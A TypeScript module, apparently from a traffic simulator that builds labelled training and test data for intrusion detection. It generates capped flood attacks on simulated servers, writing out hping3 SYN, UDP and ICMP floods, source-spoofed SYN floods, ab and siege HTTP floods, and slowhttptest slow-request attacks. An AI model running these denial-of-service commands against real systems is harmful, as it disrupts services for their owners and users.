import { PLAN } from '../plan.ts'
import { between, during, pick } from '../scene.ts'
import type { Attack, AttackScene } from '../scene.ts'
import { runTool } from './run-tool.ts'
import { attackOf } from './strike.ts'
import type { Strike } from './strike.ts'
import { publishedServer, serverFor, siteAddresses } from './targets.ts'

const HPING = { tool: 'hping3', category: 'flood', corpora: ['train', 'test'] } as const
/** No flood is longer, faster or larger: packets, and packets a second. */
export const BOUNDS = { seconds: 60, packets: 60_000, perSecond: 3_000 } as const

/** Rate and count of a flood that lasts `seconds`, within the bounds; some are not much, and still far from ordinary. */
export function volume({ random }: AttackScene, seconds: number, [low, high]: readonly [number, number]): { rate: number; count: number } {
  const rate = Math.min(BOUNDS.perSecond, between(random, low, high))
  return { rate, count: Math.min(BOUNDS.packets, rate * Math.min(seconds, BOUNDS.seconds)) }
}

/** How long the scene is, seconds. */
export function secondsLeft({ endAtMs }: AttackScene): number {
  return Math.max(1, Math.floor((endAtMs - Date.now()) / 1_000))
}

/** A server that is there, and the port that a flood of connections would fill. */
export function busyPort(scene: AttackScene): readonly [address: string, port: number] {
  const [name, port] = pick(scene.random, [['www', 80], ['jump', 22], ['mail', 25], ['mail', 143]] as const)
  return [serverFor(scene, name), port]
}

function words({ rate, count }: { rate: number; count: number }): string[] {
  return ['-n', '-q', '-i', `u${Math.ceil(1_000_000 / rate)}`, '-c', String(count)]
}

function hping(scene: AttackScene, target: string, flags: readonly string[]): Strike {
  const size = volume(scene, secondsLeft(scene) - 3, [300, 2_400])
  return {
    command: ['hping3', ...words(size), ...flags, target], targets: [target], exitCodes: [0, 1], says: /packets transmitted/,
    packetsMin: Math.floor(size.count / 8), note: `hping3 ${flags.join(' ')} at ${size.rate}/s`,
  }
}

function syn(scene: AttackScene): Strike {
  const [address, port] = busyPort(scene)
  return hping(scene, address, ['-S', '-p', String(port), ...pick(scene.random, [['-w', '64240'], ['-w', '512'], ['-d', '120']])])
}

function udp(scene: AttackScene, target: string): Strike {
  const { random } = scene
  const port = pick(random, [String(pick(random, [53, 123, 443, 500, 1_194, 5_060, 27_015])), `++${between(random, 1, 9_999)}`])
  return hping(scene, target, ['-2', '-p', port, '-d', String(between(random, 16, 1_100))])
}

/** Several at once, each with another stranger's address; the replies go to those, and nobody has them. */
async function spoofed(scene: AttackScene): Promise<void> {
  const { random } = scene
  const [victim, port] = busyPort(scene)
  const strangers = Array.from({ length: between(random, 6, 14) }, () => scene.stranger())
  const { rate } = volume(scene, BOUNDS.seconds, [500, 2_400])
  const each = Math.max(1, Math.floor(rate / strangers.length))
  const size = { rate: each, count: Math.min(Math.floor(BOUNDS.packets / strangers.length), each * (secondsLeft(scene) - 3)) }
  const flags = pick(random, [['-S'], ['-S'], ['-A'], ['-R']])
  const tool = `hping3 ${flags[0]} at ${rate}/s, spoofed`
  await during(scene, { role: 'victim', address: victim, peers: strangers, category: 'flood', tool }, async () => {
    await Promise.all(strangers.map((stranger) => runTool(scene, {
      command: ['hping3', ...words(size), ...flags, '-p', String(port), '-a', stranger, victim],
      packetsMin: Math.floor(size.count / 8), exitCodes: [0, 1],
    })))
  })
}

function url(scene: AttackScene): string {
  const { random } = scene
  const path = pick(random, ['/', '/login', `/item?id=${between(random, 1, 4_000)}`, `/search?q=${between(random, 1, 99)}`, '/page3.html'])
  return `http://${serverFor(scene, 'www')}${path}`
}

/**
 * The load test that the owner of `www` orders has 3 to 20 connections for some seconds; this has more, and does not end. From
 * outside only: the distance is what bounds the rate of programs that ask again as soon as they are answered.
 */
function ab(scene: AttackScene): Strike {
  const { random } = scene
  const url_ = url(scene)
  const keep = pick(random, [[], ['-k']])
  const flags = ['-c', String(between(random, 40, 90)), '-t', String(secondsLeft(scene)), '-n', '20000', '-s', '5', ...keep]
  return {
    // 104: the server had enough.
    command: ['ab', '-r', '-q', ...flags, url_], targets: [hostOf(url_)], packetsMin: 500, exitCodes: [0, 104],
    note: `ab ${flags.join(' ')}`,
  }
}

function siege(scene: AttackScene): Strike {
  const { random } = scene
  const url_ = url(scene)
  const flags = ['-c', String(between(random, 40, 100)), '-t', `${secondsLeft(scene)}S`, ...pick(random, [['-b'], ['-d', '0.1']])]
  return {
    command: ['siege', '--no-parser', '-q', ...flags, url_], targets: [hostOf(url_)], packetsMin: 500, note: `siege ${flags.join(' ')}`,
  }
}

function hostOf(address: string): string {
  return new URL(address).hostname
}

function slow(scene: AttackScene, mode: 'H' | 'B' | 'X'): Strike {
  const { random } = scene
  const server = serverFor(scene, 'www')
  const page = mode === 'B' ? '/login' : pick(random, ['/', '/page2.html', '/search?q=a-long-question-about-lamps', '/login'])
  const pace = ['-c', String(between(random, 120, 500)), '-r', String(between(random, 20, 100)), '-i', String(between(random, 3, 10))]
  const sipping = ['-w', '10', '-y', '40', '-n', String(between(random, 2, 5)), '-z', '32', '-k', '3']
  const reading = mode === 'X' ? sipping : ['-x', String(between(random, 8, 30))]
  return {
    command: ['slowhttptest', `-${mode}`, ...pace, ...reading, '-l', String(secondsLeft(scene)), '-p', '3',
      '-u', `http://${server}${page}`],
    // 255 and 0 both: it says by it whether the server still answered.
    targets: [server], packetsMin: 300, exitCodes: [0, 1, 255], note: `slowhttptest -${mode} ${pace.join(' ')}`,
  }
}

const SLOW = { tool: 'slowhttptest', category: 'flood', corpora: ['train', 'test'] } as const

/** Floods whose sources are real, or spoofed one by one. */
export const DIRECT_FLOODS: readonly Attack[] = [
  { ...HPING, name: 'hping3-syn-spoofed', place: 'outside', seconds: 40, isAlone: true, play: spoofed },
  attackOf({ ...HPING, name: 'hping3-syn-flood', place: 'outside', seconds: 35, plan: syn }),
  attackOf({ ...HPING, name: 'hping3-syn-flood-inside', place: 'inside', seconds: 35, plan: syn }),
  attackOf({
    ...HPING, name: 'hping3-udp-flood', place: 'outside', seconds: 35,
    plan: (scene) => udp(scene, publishedServer(scene.random, pick(scene.random, ['jump', 'www', 'mail']))),
  }),
  attackOf({
    ...HPING, name: 'hping3-udp-outwards', place: 'inside', seconds: 35,
    plan: (scene) => udp(scene, siteAddresses(scene.random, 1)[0] ?? PLAN.internet.resolver),
  }),
  attackOf({
    ...HPING, name: 'hping3-icmp-flood', place: 'outside', seconds: 35,
    plan: (scene) => hping(scene, busyPort(scene)[0], ['-1', '-d', String(between(scene.random, 8, 1_000))]),
  }),
  attackOf({
    tool: 'ab', category: 'flood', corpora: ['train', 'test'], name: 'ab-get', place: 'outside', seconds: 40,
    plan: ab,
  }),
  attackOf({
    tool: 'siege', category: 'flood', corpora: ['train', 'test'], name: 'siege-get', place: 'outside', seconds: 40,
    plan: siege,
  }),
  attackOf({ ...SLOW, name: 'slowhttptest-headers', place: 'outside', seconds: 60, plan: (scene) => slow(scene, 'H') }),
  attackOf({ ...SLOW, name: 'slowhttptest-body', place: 'outside', seconds: 60, plan: (scene) => slow(scene, 'B') }),
  attackOf({ ...SLOW, name: 'slowhttptest-read', place: 'outside', seconds: 60, plan: (scene) => slow(scene, 'X') }),
  attackOf({
    ...SLOW, name: 'slowhttptest-inside', place: 'inside', seconds: 60,
    plan: (scene) => slow(scene, pick(scene.random, ['H', 'B'])),
  }),
]
